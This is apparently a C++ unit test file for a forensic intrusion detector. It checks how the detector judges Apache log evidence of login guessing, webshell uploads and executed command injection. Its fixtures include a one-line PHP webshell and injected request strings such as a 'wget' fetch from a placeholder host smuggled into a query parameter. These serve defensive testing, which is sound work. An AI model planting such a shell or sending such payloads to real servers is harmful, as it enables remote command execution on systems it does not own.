#include <gtest/gtest.h>

#include "mini_root.hpp"

namespace rescue::detect {
namespace {

/// A web server whose logs may be read wrongly.
class DoubtfulServer : public MiniRoot {
 public:
  DoubtfulServer() {
    write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    write("/var/www/html/index.php", "<?php echo 1;\n");
  }
  static std::string request(const std::string& address, const std::string& clock, const std::string& what,
                             int status = 200) {
    return address + " - - [13/Sep/2026:" + clock + " +0000] \"" + what + " HTTP/1.1\" " +
           std::to_string(status) + " 10 \"-\" \"x\"\n";
  }
  void write_shell(const std::string& time) {
    write("/var/www/html/uploads/c.php", "<?php system($_POST['c']);");
    set_time("/var/www/html/uploads/c.php", parse_rfc3339("2026-09-13T" + time + "Z").value());
  }
  void write_access(const std::string& log) { write("/var/log/apache2/access.log", log); }
};

/// The findings of one rule.
Json of_rule(const Json& document, const std::string& rule) {
  auto found = Json::array();
  for (const auto& finding : document.at("findings")) {
    if (finding.at("rule") == rule) found.push_back(finding);
  }
  return found;
}

std::string guessed_from(const std::string& address, int failures) {
  std::string log;
  for (int i = 0; i < failures; ++i) {
    log += DoubtfulServer::request(address, "01:" + std::to_string(10 + i) + ":00", "POST /wp-login.php");
  }
  return log + DoubtfulServer::request(address, "02:00:00", "POST /wp-login.php", 302) +
         DoubtfulServer::request(address, "02:00:01", "GET /wp-admin/");
}

TEST(WebDoubts, WhoGuessedBehindAProxyIsNotKnown) {
  DoubtfulServer server;
  server.write_access(guessed_from("10.0.0.1", 40));
  const auto document = server.investigate();
  const auto found = of_rule(document, "web.login_guessed");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].at("severity"), "medium");
  EXPECT_EQ(found[0].at("confidence"), "low");
  EXPECT_NE(document.at("verdict").at("intrusion").at("state"), "confirmed");
}

TEST(WebDoubts, AnAddressThatMakesMostOfTheRequestsStandsForMany) {
  DoubtfulServer server;
  std::string log;
  for (int i = 0; i < 1'100; ++i) log += DoubtfulServer::request("198.51.100.1", "00:30:00", "GET /");
  server.write_access(log + guessed_from("198.51.100.1", 40));
  const auto found = of_rule(server.investigate(), "web.login_guessed");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].at("confidence"), "low");
}

TEST(WebDoubts, AnOwnersAddressThatIsRefusedVeryOftenIsTold) {
  DoubtfulServer server;
  const auto own = DoubtfulServer::request("203.0.113.45", "00:30:00", "POST /wp-login.php", 302) +
                   DoubtfulServer::request("203.0.113.45", "00:30:01", "GET /wp-admin/");
  server.write_access(own + guessed_from("203.0.113.45", 12));
  EXPECT_TRUE(of_rule(server.investigate(), "web.login_guessed").empty());
  server.write_access(own + guessed_from("203.0.113.45", 40));
  EXPECT_EQ(of_rule(server.investigate(), "web.login_guessed").size(), 1U);
}

TEST(WebDoubts, TheRequestBeforeTheFileBroughtItNotALaterOne) {
  DoubtfulServer server;
  server.write_shell("05:00:00");
  server.write_access(DoubtfulServer::request("203.0.113.45", "05:00:00", "POST /upload.php") +
                      DoubtfulServer::request("203.0.113.45", "05:00:01", "POST /admin-ajax.php") +
                      DoubtfulServer::request("203.0.113.45", "05:00:20", "POST /uploads/c.php"));
  const auto found = of_rule(server.investigate(), "webshell.uploaded");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_NE(found[0].at("title").get<std::string>().find("/upload.php"), std::string::npos) << found;
}

TEST(WebDoubts, ManyRequestsBeforeItDoNotHideTheOneThatBroughtTheFile) {
  DoubtfulServer server;
  server.write_shell("05:00:00");
  std::string log;
  for (int i = 10; i < 30; ++i)
    log += DoubtfulServer::request("198.51.100." + std::to_string(i), "04:59:55", "POST /admin-ajax.php");
  server.write_access(log + DoubtfulServer::request("203.0.113.45", "05:00:00", "POST /upload.php") +
                      DoubtfulServer::request("203.0.113.45", "05:00:20", "POST /uploads/c.php"));
  const auto found = of_rule(server.investigate(), "webshell.uploaded");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].at("severity"), "critical");
}

TEST(WebDoubts, OnlyACallAfterTheUploadMakesItSureAndNoProxyIs) {
  for (const auto& [address, call] : {std::pair("203.0.113.45", "04:00:00"), {"10.0.0.1", "09:00:00"}}) {
    DoubtfulServer server;
    server.write_shell("05:00:05");
    const auto called = DoubtfulServer::request(address, call, "GET /uploads/c.php");
    const auto sent = DoubtfulServer::request(address, "05:00:00", "POST /contact.php");
    server.write_access(std::string(call) < "05" ? called + sent : sent + called);
    const auto found = of_rule(server.investigate(), "webshell.uploaded");
    ASSERT_EQ(found.size(), 1U) << address;
    EXPECT_EQ(found[0].at("confidence"), "medium") << address;
  }
}

std::string error_log(const std::string& line) {
  return "[Sun Sep 13 02:00:00.100000 2026] [mpm_prefork:notice] [pid 7] AH00163: Apache configured\n" + line;
}

TEST(WebDoubts, ACommandThatOnlyTheMomentJoinsToARequestIsNoBreakIn) {
  DoubtfulServer server;
  server.write_access(DoubtfulServer::request("203.0.113.45", "05:00:00", "GET /?q=system(id)"));
  server.write("/var/log/apache2/error.log",
               "[Sun Sep 13 05:00:01.100000 2026] [core:notice] [pid 7] x\nsh: 1: curl: not found\n");
  const auto document = server.investigate();
  const auto found = of_rule(document, "web.attack_ran");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].at("severity"), "medium");
  EXPECT_EQ(document.at("entry_vectors"), Json::array());
}

TEST(WebDoubts, AFloodOfAttacksHidesNoneThatRan) {
  DoubtfulServer server;
  std::string log;
  for (int i = 0; i < 6'000; ++i)
    log += DoubtfulServer::request("203.0.113.9", "03:" + std::to_string(10 + i / 200) + ":00",
                                   "GET /?x=system(1)");
  server.write_access(
      log + DoubtfulServer::request("203.0.113.45", "05:00:00", "GET /p.php?h=1;wget%20http://x/y"));
  server.write(
      "/var/log/apache2/error.log",
      error_log("[Sun Sep 13 05:00:01.100000 2026] [cgi:error] [pid 8] [client 203.0.113.45:4] AH01215: "
                "sh: 1: wget: not found\n"));
  EXPECT_EQ(of_rule(server.investigate(), "web.attack_ran").size(), 1U);
}

TEST(WebDoubts, AFloodOfScriptsLeavesAGraveGap) {
  DoubtfulServer server;
  std::string log;
  for (int i = 0; i < 20'001; ++i)
    log += DoubtfulServer::request("203.0.113.9", "03:10:00", "GET /uploads/" + std::to_string(i) + ".php");
  server.write_access(log);
  const auto document = server.investigate();
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "undetermined");
}

}  // namespace
}  // namespace rescue::detect
